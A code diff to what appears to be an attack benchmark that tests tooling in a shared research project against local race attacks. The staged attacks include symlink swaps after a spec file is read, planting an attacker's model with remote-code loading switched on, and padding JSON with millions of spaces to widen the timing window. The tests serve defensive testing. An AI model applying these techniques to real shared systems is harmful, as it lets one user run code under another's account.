@@ -6,11 +6,10 @@ import json
 import os
 from pathlib import Path
 
-from benchmarks.attacks.attack import Verdict, attack, judged
+from benchmarks.attacks.attack import Verdict, attack, judged, ran
 from benchmarks.attacks.attacker import FORBIDDEN
-from benchmarks.attacks.stage import PROJECT, Command, Stage
+from benchmarks.attacks.stage import COMMAND_S, PROJECT, Command, Stage, write
 
-_RUN_S = 120.0
 _SPACES = " " * 15_000_000
 """Behind a JSON document, they take a reader long enough for an exchange."""
 
@@ -30,19 +29,11 @@ def _bait(stage: Stage, folder: Path) -> Path:
 
 def _exchanged(stage: Stage, victim: Command, attacker: Command) -> Verdict:
     """Tell whether code of the bait ran before the victim's command ended."""
-    victim.wait(lambda: stage.ran("exchanged"), _RUN_S)
+    victim.wait(lambda: stage.ran("exchanged"), COMMAND_S)
     said = attacker.text.strip()
     if "exchanged" not in said and FORBIDDEN not in said:
         raise RuntimeError(f"the attacker exchanged nothing: {said[-200:]} {victim.text[-500:]}")
-    return judged(stage.ran("exchanged"), stage.ran("exchanged"), f"{said}; {last_line(victim)}")
-
-
-def last_line(command: Command) -> str:
-    """Return the last line that a command wrote. Raises RuntimeError if it was called wrongly."""
-    lines = command.text.strip().splitlines()
-    if lines and lines[0].startswith("usage:"):
-        raise RuntimeError(f"the attack calls the command wrongly: {lines[-1]}")
-    return f"the command said: {lines[-1][:200] if lines else 'nothing'}"
+    return ran(stage, victim, "exchanged", said)
 
 
 @attack("1a", "run exchanged in a setgid folder of the project, before ranks read it", race=True)
@@ -94,8 +85,7 @@ def _(stage: Stage) -> Verdict:
     runs = stage.shared("runs")
     path, record = stage.slurm()
     script = runs / "bait" / "attempts" / "001" / "job.sh"
-    script.parent.mkdir(parents=True)
-    script.write_text("#!/bin/bash\n# the attacker's script\n")
+    write(script, "#!/bin/bash\n# the attacker's script\n")
     stage.published(runs / "bait", stage.other)
     pattern = rf"({stage.folder}[^\0]+)/attempts/001/job\.sh"
     attacker = stage.attacks("exchange", pattern, runs / "bait")
@@ -112,23 +102,20 @@ def _turned(stage: Stage, *command: str, **model: object) -> Verdict:
     the former's spec.json was read.
     """
     mine = stage.run_of(stage.owner, stage.owner.home / "mine")
-    theirs, link = stage.scratch / "theirs" / "run", stage.scratch / "theirs" / "latest"
-    theirs.mkdir(parents=True)
     evil = stage.model(stage.scratch / "evil", stage.other, "exchanged")
-    spec = json.loads((mine / "spec.json").read_text())
     values = {key: str(evil) if value == "EVIL" else value for key, value in model.items()}
-    spec["model"] |= values | {"trust_remote_code": True}
-    (theirs / "spec.json").write_text(json.dumps(spec) + _SPACES)
+    place = stage.planted("theirs")
+    theirs = stage.run_of(stage.other, place / "run", **values, trust_remote_code=True)
+    spec, link = theirs / "spec.json", place / "latest"
+    spec.write_text(spec.read_text() + _SPACES)
     link.symlink_to(theirs)
-    stage.other.give(theirs.parent)
-    attacker = stage.attacks("turn", theirs / "spec.json", link, mine)
-    if not attacker.wait(lambda: "ready" in attacker.text, 20):
-        raise RuntimeError(f"the attacker does not watch: {attacker.text}")
+    stage.other.give(link)
+    attacker = stage.attacks("turn", spec, link, mine).ready()
     victim = stage.so_tui(command[0], str(link), *command[1:])
-    said = victim.end(120)
-    if "turned" not in attacker.text and not victim.process.returncode:
+    said = victim.end()
+    if "turned" not in attacker.text and not victim.code:
         raise RuntimeError(f"the attacker turned nothing: {attacker.text} {said[-500:]}")
-    return judged(stage.ran("exchanged"), stage.ran("exchanged"), last_line(victim))
+    return ran(stage, victim, "exchanged")
 
 
 @attack("2a", "generate: link pointed to the attacker's run after spec.json was read", race=True)
